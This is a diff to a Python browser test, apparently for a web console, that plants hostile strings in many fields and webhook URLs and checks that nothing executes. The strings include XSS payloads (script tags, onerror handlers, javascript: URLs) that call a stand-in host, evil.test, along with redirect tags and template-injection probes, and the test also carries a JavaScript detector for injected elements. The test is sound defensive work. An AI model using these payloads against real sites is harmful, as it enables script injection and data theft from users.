@@ -17,16 +17,21 @@ from tidings.wire.forms import decode
 
 RUNS = "window.ran=1,fetch('http://evil.test/')"
 NASTY = (
-    f"\"'><script>{RUNS}</script><img class=planted src=x onerror=\"{RUNS}\"></title></textarea></select></pre><!--"
+    f'"\'><script>{RUNS}</script><img class=planted src=x onerror="{RUNS}"></title></textarea></select></pre><!--'
     "{{7*7}}{% raw %}${7*7}<%=7*7%>\N{RIGHT-TO-LEFT OVERRIDE}\N{LEFT-TO-RIGHT ISOLATE}&lt;b class=planted&gt;javascript:alert(1)"
 )
 HEAD = f"HTTP/1.1 500 {NASTY}\r\nX-Said: {NASTY}\r\nLocation: javascript:{RUNS}\r\nContent-Type: text/html\r\nRefresh: 0; url=http://evil.test/\r\n"
-BODY = (NASTY.encode() + b"\0\xff\xfe\x1b[31m</code></pre><base href=//evil.test/><meta http-equiv=refresh content='0;url=//evil.test/'>") * 80
-PLANTED = """() => [
-  ...document.querySelectorAll('.planted, iframe, object, embed, base, style, meta[http-equiv], script:not([src^="/console/"])'),
-  ...[...document.querySelectorAll('*')].filter((each) => [...each.attributes].some(
-    ({name, value}) => /^(on|style$|srcdoc$)/.test(name) || /^\\s*(javascript|data|vbscript):/i.test(value) && /^(href|src|action|formaction)$/.test(name))),
-].map((each) => each.outerHTML.slice(0, 200)).concat(window.ran ? ["it ran"] : [])"""
+BODY = (
+    NASTY.encode() + b"\0\xff\xfe\x1b[31m</code></pre><base href=//evil.test/><meta http-equiv=refresh content='0;url=//evil.test/'>"
+) * 80
+PLANTED = """() => {
+  const ours = 'script:not([src^="/console/"])';
+  const odd = [...document.querySelectorAll(`.planted, iframe, object, embed, base, style, meta[http-equiv], ${ours}`)];
+  const acts = ({name, value}) => /^(on|style$|srcdoc$)/.test(name)
+    || /^(href|src|action|formaction)$/.test(name) && /^\\s*(javascript|data|vbscript):/i.test(value);
+  odd.push(...[...document.querySelectorAll('*')].filter((each) => [...each.attributes].some(acts)));
+  return odd.map((each) => each.outerHTML.slice(0, 200)).concat(window.ran ? ['it ran'] : []);
+}"""
 
 
 class Stranger(socketserver.BaseRequestHandler):
@@ -59,11 +64,14 @@ def plant(client: Client, port: int) -> tuple[int, int, int, int]:
     """Say it wherever something can be said: the ids of a space, an app, an item and a hook that are all called so."""
     org = client.orgs.create(NASTY)
     space_id = client.spaces.create(org["org_id"], NASTY)["space_id"]
-    labels = [{"type": "text", "config": {"label": NASTY}}, {"type": "category", "config": {"label": NASTY, "settings": {"options": [NASTY]}}}]
+    labels = [
+        {"type": "text", "config": {"label": NASTY}},
+        {"type": "category", "config": {"label": NASTY, "settings": {"options": [NASTY]}}},
+    ]
     config = {"name": NASTY, "item_name": NASTY, "description": NASTY}
     app_id = client.apps.create(space_id, config, labels)["app_id"]
     title, status = (field["field_id"] for field in client.apps.get(app_id)["fields"])
-    item_id = client.items.create(app_id, {title: NASTY, status: NASTY}, external_id=NASTY[:255], tags=[NASTY])["item_id"]
+    item_id = client.items.create(app_id, {str(title): NASTY, str(status): NASTY}, external_id=NASTY[:255], tags=[NASTY])["item_id"]
     client.comments.create("item", item_id, NASTY)
     url = f"http://127.0.0.1:{port}/'onclick=window.ran=1//?a=%3Cscript%3E&lt;img/class=planted&gt;$(alert(1))"  # the worst that is one
     hook_id = client.hooks.create("app", app_id, url, "item.update").hook_id
@@ -73,8 +81,7 @@ def plant(client: Client, port: int) -> tuple[int, int, int, int]:
 
 
 def test_whatever_strangers_say_does_nothing_in_a_browser(page: Page, room: Room) -> None:
-    client = Client(room.url, room.client_id, room.client_secret)
-    client.authenticate_with_password(room.username, room.password)
+    client = room.client()
     with stranger() as port:
         space_id, app_id, item_id, hook_id = plant(client, port)
         app, hook = f"/console/apps/{app_id}", f"/console/hooks/{hook_id}"
